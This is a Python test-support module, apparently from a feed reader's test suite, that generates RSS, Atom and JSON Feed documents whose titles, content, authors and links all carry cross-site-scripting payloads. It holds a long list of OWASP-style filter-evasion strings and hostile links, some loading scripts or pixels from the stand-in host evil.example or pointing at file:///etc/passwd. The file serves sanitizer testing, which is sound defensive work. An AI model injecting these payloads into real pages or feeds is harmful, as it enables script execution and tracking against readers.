"""What feeds have tried on their readers: after OWASP's filter evasions and feedparser's tests."""

import random
from html import escape

import msgspec

from tests.support.publisher import Publisher

ELEMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<script src='//evil.example/x.js'>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/xss src=data:,alert(1)></script>",
    "<<script>alert(1);//<</script>",
    "<script>alert(String.fromCharCode(88,83,83))</script\t\n bar>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert('1')\"//>",
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=# onmouseover='alert(1)'>",
    "<IMG SRC= onmouseover=alert(1)>",
    "<IMG onmouseover=alert(1)>",
    "<IMG SRC='jav&#x09;ascript:alert(1)'>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;lert(1)>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)>",
    "<IMG SRC='  &#14;  javascript:alert(1)'>",
    "<img src=http://evil.example/pixel.gif>",
    "<img srcset='http://evil.example/pixel.gif 2x'>",
    "<img/src=x/onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<picture><source srcset=x><img src=x onerror=alert(1)></picture>",
    "<body onload=alert(1)>",
    "<BODY BACKGROUND='javascript:alert(1)'>",
    "<body onpageshow=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover value=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>click</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zy8+'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>click</math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=http://evil.example/></iframe>",
    "<iframe onload=alert(1)></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<object type='text/x-scriptlet' data='http://evil.example/x.html'></object>",
    "<embed src='javascript:alert(1)'>",
    "<embed src='http://evil.example/x.swf' AllowScriptAccess=always>",
    "<applet code=x></applet>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>click</a>",
    "<a href='java\nscript:alert(1)'>click</a>",
    "<a href='&#1;javascript:alert(1)'>click</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>click</a>",
    "<a href='vbscript:msgbox(1)'>click</a>",
    "<a onmouseover=alert(1) href=x>hover</a>",
    "<a style='position:fixed;inset:0' href=http://evil.example/>everywhere</a>",
    "<p style='background:url(http://evil.example/a.png)'>x</p>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<style>*{background:url('http://evil.example/b.png')}</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<link rel=prefetch href=http://evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<meta http-equiv=Set-Cookie content='a=b'>",
    "<base href='http://evil.example/'>",
    "<form action='javascript:alert(1)'><button>x</button></form>",
    "<form><button formaction='javascript:alert(1)'>x</button></form>",
    "<form id=boot><input name=textContent></form>",
    "<p id=headlines>clobber</p>",
    "<table background='javascript:alert(1)'><tr><td>x</table>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<portal src=http://evil.example/>",
    "<ruby oncopy=alert(1)>x</ruby>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u2028<img src=x onerror=alert(1)>\u2029",
    "\u202e<img src=x onerror=alert(1)>",
    "' onmouseover=alert(1) x='",
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="',
    "{{constructor.constructor('alert(1)')()}}",
    "{% raw %}{{ config }}{% endraw %}${alert(1)}",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
)
LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "javascript&colon;alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:http://evil.example/x",
    "//evil.example/x",
    'http://evil.example/" onmouseover=alert(1) x="',
    "http://evil.example/'><img src=x onerror=alert(1)>",
    "https://user:password@evil.example/",
    "http:javascript:alert(1)",
    "http://evil.example/#javascript:alert(1)",
)


class HostileOrigin(Publisher):
    """A publisher whose every word is an attack, written as RSS, Atom or JSON Feed; `wave` edits them all."""

    def __init__(self, form: str) -> None:
        super().__init__(random.Random(8))
        self.form = form
        self.wave = "early"

    def document(self) -> bytes:
        entries = [(n, text, LINKS[n % len(LINKS)]) for n, text in enumerate(ELEMENTS)]
        match self.form:
            case "rss":
                items = "".join(_item(self.wave, *each) for each in entries)
                return (
                    f'<rss version="2.0" {_SPACES}><channel>{_head(entries)}{items}</channel></rss>'.encode()
                )
            case "atom":
                items = "".join(_entry(self.wave, *each) for each in entries)
                return f'<feed xmlns="http://www.w3.org/2005/Atom" {_SPACES}>{items}</feed>'.encode()
            case _:
                posts = [_json_item(self.wave, *each) for each in entries]
                version = "https://jsonfeed.org/version/1.1"
                return msgspec.json.encode({"version": version, "title": ELEMENTS[0], "items": posts})


_SPACES = 'xmlns:media="http://search.yahoo.com/mrss/" xmlns:dc="http://purl.org/dc/elements/1.1/"'


def _head(entries: list[tuple[int, str, str]]) -> str:
    return f"<title>{escape(entries[0][1])}</title><link>javascript:alert(1)</link>"


def _cdata(text: str) -> str:
    return f"<![CDATA[{text.replace(']]>', ']]]]><![CDATA[>')}]]>"


def _item(wave: str, n: int, text: str, link: str) -> str:
    title = _cdata(f"{wave} {text}") if n % 2 else escape(escape(f"{wave} {text}"))
    return (
        f"<item><guid>rss{n}</guid><title>{title}</title><description>{_cdata(text)}</description>"
        f"<link>{escape(link)}</link><dc:creator>{_cdata(text)}</dc:creator><category>{_cdata(text)}</category>"
        f'<enclosure url="{escape(link)}" type="image/png"/><media:thumbnail url="{escape(link)}"/></item>'
    )


def _entry(wave: str, n: int, text: str, link: str) -> str:
    kind = ("html", "text")[n % 2]
    return (
        f'<entry><id>atom{n}</id><title type="{kind}">{escape(f"{wave} {text}")}</title>'
        f'<content type="{kind}">{escape(text)}</content><link href="{escape(link)}"/>'
        f'<author><name>{escape(text)}</name></author><category term="{escape(text)}"/></entry>'
    )


def _json_item(wave: str, n: int, text: str, link: str) -> dict[str, object]:
    return {
        "id": f"json{n}",
        "title": f"{wave} {text}",
        "content_html" if n % 2 else "content_text": text,
        "url": link,
        "authors": [{"name": text}],
        "tags": [text],
        "image": link,
    }
